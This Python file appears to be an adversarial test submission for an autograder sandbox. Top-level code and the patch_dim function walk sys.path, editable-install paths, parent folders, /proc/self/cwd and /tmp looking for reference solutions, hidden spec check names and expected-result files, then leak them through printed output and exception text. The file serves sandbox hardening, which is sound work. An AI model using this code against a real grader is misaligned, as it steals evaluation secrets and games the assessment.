"""Searching the file system for the grader's secrets and carrying them into the feedback: the
reference (grader/reference/*.py, the lab's solution, and the course's own, exercises/reference/),
the specs (*.yaml, their hidden checks'
names), compiled expectations (*.npz) and results files (*.json), wherever a submission could
look: sys.path and site-packages (an editable install's finder names its checkout), the working
folder and its parents, /proc/self/cwd, this file's folder, the grader package's folder
(importlib) and /tmp. Top-level code prints what it found and raises it; patch_dim searches
again (once: its other calls reuse it) and raises it, with the first line of correct_solution.py
in front (proof that what it read reaches the feedback). As root the worker sees none of the
secrets: only flatten-length loses its points, and no line of the reference or of a spec
appears in the results (tests/test_hostile.py)."""
import importlib.util
import os
import re
import sys
import time
from pathlib import Path

from correct_solution import *  # noqa: F401,F403 - every other function is the instructor's solution

HERE = Path(__file__).resolve().parent
SCRATCH = HERE / "scratch" / Path(__file__).stem
PATTERNS = ("reference/*.py", "*.yaml", "*.yml", "*.npz", "*.json", "_exercises/*.yaml",
            "exercises/*.yaml", "exercises/reference/*.py", "grader/reference/*.py",
            "grader/_exercises/*.yaml", "solutions/*.py", "exercises/compiled/*", "results/*.json")
WALK_SECONDS = 0.1  # each recursive search; the grader stops a statement after 1 s (the test's)


def _grader_folders():
    folders = []
    try:
        spec = importlib.util.find_spec("grader")
        folders += [Path(p) for p in spec.submodule_search_locations or []]
    except (ImportError, ValueError):
        pass
    for name in ("grader.reference", "grader._exercises"):
        try:
            spec = importlib.util.find_spec(name)
            folders += [Path(p) for p in (spec.submodule_search_locations or [])] if spec else []
        except (ImportError, ValueError):  # the worker refuses them; their folders are still there
            pass
    return folders


def _editable_roots():
    """Paths an editable install's finder or a .pth file names: the checkout it came from."""
    roots = []
    for entry in sys.path:
        folder = Path(entry or ".")
        try:
            names = [p for p in folder.iterdir()
                     if p.suffix == ".pth" or (p.name.startswith("__editable__") and p.suffix == ".py")]
        except OSError:
            continue
        for path in names:
            try:
                text = path.read_text(errors="replace")
            except OSError:
                continue
            roots += [Path(m) for m in re.findall(r"['\"](/[^'\"]+)['\"]", text)]
            roots += [Path(line.strip()) for line in text.splitlines() if line.startswith("/")]
    return roots


def _places():
    """(where, folder, recursive) in the order a thief would try them."""
    places = [("grader package", folder, True) for folder in _grader_folders()]
    places += [("editable checkout", root, False) for root in _editable_roots()]
    places += [("editable checkout", root.parent, False) for root in _editable_roots()]
    for entry in sys.path:
        places += [("sys.path", Path(entry or "."), False), ("sys.path", Path(entry or ".").parent, False)]
    cwd = Path.cwd()
    places += [("working folder", folder, False) for folder in (cwd, *cwd.parents)]
    places += [("/proc/self/cwd", Path("/proc/self/cwd"), True), ("/tmp", Path("/tmp"), True),
               ("submission folder", HERE, True)]
    return places


def _files(folder, recursive):
    if recursive:
        found, stop = [], time.monotonic() + WALK_SECONDS
        for dirpath, dirnames, filenames in os.walk(folder):
            dirnames[:] = [d for d in dirnames if d not in ("scratch", "__pycache__", ".git")]
            for name in filenames:
                path = Path(dirpath) / name
                if any(path.match(pattern) for pattern in PATTERNS):
                    found.append(path)
            if time.monotonic() > stop:
                break
        return found
    out = []
    for pattern in PATTERNS:
        try:
            out += sorted(folder.glob(pattern))
        except (OSError, ValueError):
            pass
    return out


def _snippet(path):
    try:
        if path.suffix == ".npz":
            import numpy as np

            with np.load(path) as arrays:
                return " ".join(f"{k}={arrays[k].ravel()[:3]}" for k in list(arrays)[:4])
        text = path.read_text(errors="replace")
    except Exception as exc:  # noqa: BLE001
        return f"unreadable ({type(exc).__name__})"
    if path.suffix in (".yaml", ".yml"):  # what is worth stealing: the checks' names
        return " | ".join(line.strip() for line in text.splitlines() if "name:" in line)[:300]
    return " ".join(text.split())[:300]


def _search():
    seen, found, searched = set(), [], []
    for where, folder, recursive in _places():
        try:
            key = (folder.resolve(), recursive)
        except OSError:
            continue
        if key in seen:
            continue
        seen.add(key)
        files = _files(folder, recursive)
        searched.append(f"{where} {folder} {len(files)}")
        found += [f"{f}: {_snippet(f)}" for f in files]
    return found, searched


def _stolen(found):
    return "stole " + str(len(found)) + " files: " + " || ".join(found)


FOUND, SEARCHED = _search()
if SCRATCH.is_dir():
    (SCRATCH / f"searched-{os.getpid()}").write_text("\n".join(SEARCHED))
print(_stolen(FOUND))
if FOUND:
    raise RuntimeError(_stolen(FOUND)[:1900])


_AT_CALL = []  # the search at the first call (the worker is confined then), kept for the others


def patch_dim(P, C=3):
    canary = (HERE / "correct_solution.py").read_text().splitlines()[0]
    if not _AT_CALL:
        _AT_CALL.append(_search()[0])
    found = _AT_CALL[0]
    print(_stolen(found))
    raise RuntimeError(f"{canary} {_stolen(found)}"[:1900])
